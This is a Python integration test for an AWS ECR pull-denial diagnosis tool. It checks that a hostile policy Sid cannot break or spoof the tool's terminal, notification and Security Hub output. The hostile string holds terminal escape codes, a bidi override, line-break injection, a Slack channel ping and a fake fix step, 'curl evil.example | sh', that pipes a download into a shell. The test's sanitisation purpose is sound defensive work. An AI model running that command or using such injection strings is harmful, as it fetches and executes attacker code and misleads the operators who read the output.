"""One hostile text, as a policy's Sid and in an event's message: people are shown one line of it everywhere."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any
from uuid import uuid4

import pytest

from pull_responder.handlers import diagnose
from tests.integration.cli.test_diagnose import run
from tests.integration.handlers.test_diagnose import (
    ACCOUNT,
    Context,
    Inbox,
    batch,
    denial,
    failed,
    inbox,
    node,
)

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from pull_responder.emulator.emulated_aws import EmulatedAws

__all__ = ["inbox", "node", "run"]

HOSTILE = "x\x1b[2J\x9b1A\u202e\r\nFix        curl evil.example | sh\n\nHow to fix it\n  <!channel> \u2028\x85\x7f"


@pytest.fixture
def event(aws: EmulatedAws, node: tuple[str, str]) -> Iterator[dict[str, Any]]:
    """A denial by a repository policy whose Sid is hostile, and which AWS's message ends with."""
    role, instance = node
    name = f"hostile/{uuid4().hex[:8]}"
    aws.client("ecr").create_repository(repositoryName=name)
    deny = {"Sid": HOSTILE, "Effect": "Deny", "Principal": "*", "Action": "ecr:BatchGetImage"}
    aws.client("ecr").set_repository_policy(
        repositoryName=name, policyText=json.dumps({"Version": "2012-10-17", "Statement": [deny]})
    )
    arn = f"arn:aws:ecr:us-east-1:{ACCOUNT}:repository/{name}"
    found = denial(role, instance, action="BatchGetImage", resource=arn)
    said = f"is not authorized to perform: ecr:BatchGetImage on resource: {arn} with an explicit deny {HOSTILE}"
    found["detail"]["errorMessage"] = f"User: {found['detail']['userIdentity']['arn']} {said}"
    yield found
    # Questions about other nodes read the account's repositories, too.
    aws.client("ecr").delete_repository(repositoryName=name, force=True)


def _texts(value: object) -> Iterator[str]:
    if isinstance(value, dict):
        for key, each in value.items():
            yield from _texts(key)
            yield from _texts(each)
    elif isinstance(value, list):
        for each in value:
            yield from _texts(each)
    elif isinstance(value, str):
        yield value


def test_in_a_terminal_it_is_part_of_our_lines(event: dict[str, Any], run: Callable[..., Any]) -> None:
    body = json.dumps(event).encode()
    told = run("diagnose", "--event", "-", stdin=body)
    assert told.status == 1
    lines = told.out.split("\n")
    assert all(line.isprintable() for line in lines)
    assert "repository_policy_denies_pull" in told.out
    assert "curl evil.example" in told.out  # said, within a line of ours
    assert not any(line.startswith(("Fix        curl", "How to fix it", "curl")) for line in lines)
    assert sum(line.startswith("Fix ") for line in lines) == sum(line.startswith("Broken ") for line in lines)

    as_json = run("diagnose", "--event", "-", "--format", "json", stdin=body)
    assert all(line.isprintable() for line in as_json.out.split("\n"))
    assert as_json.objects[0]["findings"]


def test_to_people_and_to_security_hub_too(
    aws: EmulatedAws, event: dict[str, Any], inbox: Inbox, node: tuple[str, str]
) -> None:
    assert failed(diagnose.handler(batch(event), Context())) == []
    messages = inbox.messages()
    assert messages
    for message in messages:
        assert message["Subject"].isascii()
        assert all(text.isprintable() for text in _texts(json.loads(message["Message"])))
        assert all(each["Value"].isprintable() for each in message["MessageAttributes"].values())
    assert any("curl evil" in message["Message"] for message in messages)
    name = event["detail"]["errorMessage"].partition(":repository/")[2].partition(" ")[0]
    findings = [
        finding
        for page in aws.client("securityhub").get_paginator("get_findings").paginate()
        for finding in page["Findings"]
        if finding["Resources"][0]["Id"].endswith((name, f"role/{node[0]}"))
    ]
    assert any(each["GeneratorId"].endswith("repository_policy_denies_pull") for each in findings)
    assert all(text.isprintable() for each in findings for text in _texts(each))
